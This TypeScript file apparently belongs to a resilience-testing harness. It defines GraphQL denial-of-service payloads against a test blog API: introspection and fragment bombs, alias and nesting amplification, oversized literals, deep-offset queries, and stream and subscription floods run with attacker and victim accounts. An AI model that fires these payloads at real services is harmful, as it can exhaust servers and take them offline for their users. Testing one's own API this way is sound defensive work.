import { repeat, times } from '../../../harness/lists.ts';
import { type Attacks, cycle, graphql, operations, requests } from '../floods.ts';
import type { Target } from '../target.ts';

const mebibyte = { bytes: 1_048_576 };
const few = { connections: 2, most: 20 };
const some = { connections: 4, most: 40 };
const many = { connections: 4, most: 200 };

/** Documents and variables that are expensive to parse, validate, compile or cache. */
export const graphqlAttacks: Attacks = {
  'tag-filter': operations(few, (target) => ({
    query: `query ($t: [String!]) { ${repeat(100, (n) => `a${n}: posts(filter: {tags: $t}) { id }`)} }`,
    variables: { t: target.times([100_000, 5_000], (n) => `t${n}`) },
  })),
  'different-operations': operations({ connections: 4, most: [1_000, 40] }, () => (round) => {
    const users = (n: number) =>
      `a${n}: users(limit: 1, offset: ${n + round}) { id name posts { id title } }`;
    return `query Q${round} { ${repeat(190, users)} }`;
  }),
  'small-operations': operations({ connections: 8, most: [20_000, 200] }, () => (round) => {
    return `query Q${round} { user(id: "${round}") { id name } }`;
  }),
  'introspection-bombs': operations(many, () => {
    const nested = (depth: number): string =>
      depth === 0 ? 'name' : `fields { type { ofType { ${nested(depth - 1)} } } }`;
    const possible = 'possibleTypes { possibleTypes { possibleTypes { name } } } interfaces { name }';
    return [
      `{ __schema { types { ${nested(5)} } } }`,
      `{ ${repeat(190, (n) => `a${n}: __schema { types { name fields { name } } }`)} }`,
      `{ __schema { types { ${possible} } } }`,
    ];
  }),
  'fragment-bombs': operations({ connections: 4, most: 2_000 }, () => {
    const post = (name: string, content: string) => `fragment ${name} on Post { ${content} }`;
    const link = (n: number) => `author { posts { ...f${n} } } comments { post { ...f${n} } }`;
    return [
      `query { posts { ...a } } ${post('a', 'id ...b')} ${post('b', 'id ...a')}`,
      `{ posts(limit: 1) { ...f0 } } ${repeat(20, (n) => post(`f${n}`, link(n + 1)))} ${post('f20', 'id')}`,
      `{ posts(limit: 1) { ...f0 } } ${repeat(200, (n) => post(`f${n}`, `...f${n + 1} ...f${n + 1}`))} ${post('f200', 'id')}`,
      `{ posts { id } } ${repeat(600, (n) => post(`u${n}`, 'id'))}`,
      `{ posts { ...f0 } } ${repeat(15, (n) => post(`f${n}`, link(n + 1)))} ${post('f15', 'id')} ${repeat(500, (n) => post(`u${n}`, 'id'))}`,
    ];
  }),
  'overlapping-fields': operations({ connections: 4, most: 400 }, () => {
    const spreads = repeat(400, (n) => `...f${n}`);
    const documents = [
      `{ ${'posts { id } '.repeat(1_200)} }`,
      `{ ${'posts { author { posts { id } } } '.repeat(450)} }`,
      `{ posts { ${spreads} } } ${repeat(400, (n) => `fragment f${n} on Post { t: title }`)}`,
      `{ posts { ${'... on Post { author { name } } '.repeat(450)} } }`,
    ];
    // A comment makes each document unique.
    return (round) => `${cycle(documents, round)} # ${round}`;
  }),
  'unknown-fields': operations({ ...many, ...mebibyte }, () => (round) => {
    return `{ ${repeat(2_400, (n) => `user${n}${round} postss`)} }`;
  }),
  'wrong-variables': operations({ connections: 2, most: 40, ...mebibyte }, (target) => {
    const query = 'query ($t: [String!]) { posts(filter: {tags: $t}) { id } }';
    const wrong = { t: target.times([100_000, 2_000], (n) => n) };
    const many = Object.fromEntries(target.times([20_000, 2_000], (n) => [`v${n}`, [[[{}]]]]));
    return [wrong, many].map((variables) => ({ query, variables }));
  }),
  'many-mutations': operations({ connections: 8, most: [100, 4] }, () => {
    const user = 'createUser(input: {name: "U", email: "u@example.com"}) { id posts { id } }';
    return `mutation { ${repeat(200, (n) => `u${n}: ${user}`)} }`;
  }),
  'long-literals': operations(many, (target) => {
    const length = target.size([1_000_000, 100_000]);
    return [
      `{ search(query: "${'x'.repeat(length)}") { __typename } }`,
      `{ user(id: ${'9'.repeat(Math.min(length, 100_000))}) { id } }`,
      `{ posts(filter: {tags: [${'"t" '.repeat(2_000)}]}) { id } }`,
      `{ posts(limit: 1) { id } } #${'x'.repeat(length)}`,
      `{ ${'x'.repeat(length)} }`,
      `${' \n,'.repeat(length / 3)}{ posts(limit: 1) { id } }`,
    ];
  }),
  // Operations whose responses are larger, or cost more reads, than they look.
  'multiplied-tags': operations(few, tagged('comments { post { comments { post { tags } } } }')),
  'nested-aliases': operations(few, ({ world }) => {
    const walk = 'comments { post { comments { post { comments { id } } } } }';
    return `{ ${repeat(40, (n) => `a${n}: post(id: "${world.taggedPostId}") { ${walk} }`)} }`;
  }),
  'long-comments': operations(some, ({ world }) => {
    const post = `post(id: ${world.discussedPostId})`;
    return [`{ ${post} { comments { text } } }`, `{ ${post} { comments { post { comments { text } } } } }`];
  }),
  'whole-blog': operations(some, () => {
    const authors = 'author { posts { title content } }';
    return `{ users { name posts { title content comments { text ${authors} } } } }`;
  }),
  'last-pages': operations(few, () => {
    const page = (last: number) => (n: number) =>
      `a${n}: postsConnection(last: ${last}, filter: {published: ${n % 2 === 0}}) { totalCount edges { cursor node { id title tags } } }`;
    return [`{ ${repeat(200, page(20))} }`, `{ ${repeat(4, page(1_000))} }`];
  }),
  'deep-offsets': operations(some, () => {
    const far = (n: number) =>
      `p${n}: posts(limit: 1, offset: ${2_000_000 + n}) { id } u${n}: users(limit: 1, offset: ${n}) { id }`;
    return `{ ${repeat(100, far)} }`;
  }),
  'search-aliases': operations(few, () => {
    const search = (n: number) =>
      `s${n}: search(query: "${String(n).padStart(2, '0').slice(-2)}") { __typename ... on Post { id } }`;
    return `{ ${repeat(200, search)} }`;
  }),
  'heavy-streams': async (target) => {
    const query = tagged('comments { post { comments { post { comments { text post { tags } } } } } }')(
      target,
    );
    const { token } = target.world.attacker;
    const sent = { ...graphql(query), headers: { accept: 'text/event-stream' }, token };
    const allowed = { statuses: [200, 400, 503, 0], ms: 60_000 };
    const streams = requests(10, 20, allowed, () => sent)(target);
    const queries = times(10, () => query);
    await target.subscribe(1, queries, async (socket) => {
      await Promise.race([socket.next(), socket.closed, Bun.sleep(target.scene.seconds * 1000)]);
      await streams;
    });
  },
  'subscription-walk': async (target) => {
    const { attacker, victim } = target.world;
    const befriend = `mutation { addFriend(userId: "${victim.id}") { id } }`;
    await target.send({ ...graphql(befriend), token: attacker.token });
    const walk =
      'author { friends { posts { comments { post { comments { post { comments { id } } } } } } } }';
    const subscriptions = times(30, (id) => `subscription { p${id}: postCreated { ${walk} } }`);
    await target.subscribe(1, subscriptions, async () => {
      await Bun.sleep(300);
      await target.flood(1, [5, 2], async () => {
        await target.writeAsVictim();
        await Bun.sleep(500);
      });
    });
  },
};

/** A document with fields of the post that has many tags and comments. */
function tagged(fields: string) {
  return ({ world }: Target) => `{ post(id: "${world.taggedPostId}") { ${fields} } }`;
}
